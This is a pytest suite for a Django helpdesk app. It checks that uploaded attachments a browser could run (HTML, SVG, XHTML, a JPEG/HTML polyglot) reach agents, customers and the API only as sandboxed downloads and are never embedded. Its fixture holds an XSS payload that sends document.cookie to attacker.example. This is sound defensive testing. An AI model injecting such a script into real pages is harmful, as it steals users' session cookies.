"""Files that a browser would run (HTML, SVG with script, XHTML, a JPEG that is also HTML) are kept
on the ticket but only ever leave as sandboxed downloads, through every door (FAULTS F2)."""

from __future__ import annotations

import pytest
from django.test import Client
from django.urls import reverse

from kefu.accounts.services import create_api_token
from kefu.tickets import services
from kefu.tickets.services import Upload

pytestmark = [pytest.mark.django_db, pytest.mark.fault("F2")]

SCRIPT = b"<script>fetch('https://attacker.example/?c='+document.cookie)</script>"
FILES = [
    ("说明.html", b"<!doctype html><html><body>" + SCRIPT + b"</body></html>", "text/html"),
    (
        "logo.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>",
        "image/svg+xml",
    ),
    (
        "page.xhtml",
        b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
        "application/xhtml+xml",
    ),
    # a JPEG header followed by HTML: sniffing browsers have rendered such files as pages
    ("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + SCRIPT, "image/jpeg"),
]


@pytest.fixture
def ticket_with_files(customer_x, agent_li, make_ticket):
    ticket = make_ticket(customer_x, subject="附件", body="请看附件。")
    posted = services.customer_follow_up(
        ticket,
        body="附件在这里",
        channel="email",
        attachments=[Upload(name, content, ctype) for name, content, ctype in FILES],
    )
    assert posted.rejected == []  # kept: agents may need to look at them
    return ticket


def _assert_sandboxed_download(response, body: bytes) -> None:
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert response["Content-Type"].split(";")[0] not in (
        "text/html",
        "image/svg+xml",
        "application/xhtml+xml",
    )
    assert b"".join(response.streaming_content) == body  # the file itself, unchanged


def test_agents_download_them_sandboxed(ticket_with_files, agent_li):
    client = Client()
    client.force_login(agent_li)
    for attachment, (_name, content, _ctype) in zip(
        ticket_with_files.attachments.order_by("pk"), FILES, strict=True
    ):
        _assert_sandboxed_download(client.get(reverse("agent:attachment", args=[attachment.pk])), content)


def test_the_customer_downloads_them_sandboxed_in_the_portal(ticket_with_files, customer_x):
    client = Client()
    client.force_login(customer_x.user)
    for attachment, (_name, content, _ctype) in zip(
        ticket_with_files.attachments.order_by("pk"), FILES, strict=True
    ):
        _assert_sandboxed_download(client.get(reverse("portal:attachment", args=[attachment.pk])), content)


def test_the_api_serves_them_sandboxed(ticket_with_files, agent_li):
    token = create_api_token(user=agent_li, name="tests")[1]
    client = Client(headers={"Authorization": f"Bearer {token}"})
    for attachment, (_name, content, _ctype) in zip(
        ticket_with_files.attachments.order_by("pk"), FILES, strict=True
    ):
        url = reverse("api:download_attachment", kwargs={"attachment_id": attachment.pk})
        _assert_sandboxed_download(client.get(url), content)


def test_the_ticket_page_never_embeds_them(ticket_with_files, agent_li):
    client = Client()
    client.force_login(agent_li)
    page = client.get(reverse("agent:ticket", args=[ticket_with_files.pk])).content.decode()
    for attachment in ticket_with_files.attachments.all():
        url = reverse("agent:attachment", args=[attachment.pk])
        assert (
            f'src="{url}"' not in page and f'data="{url}"' not in page
        )  # a link, never <img>/<iframe>/<object>
        assert f'href="{url}"' in page
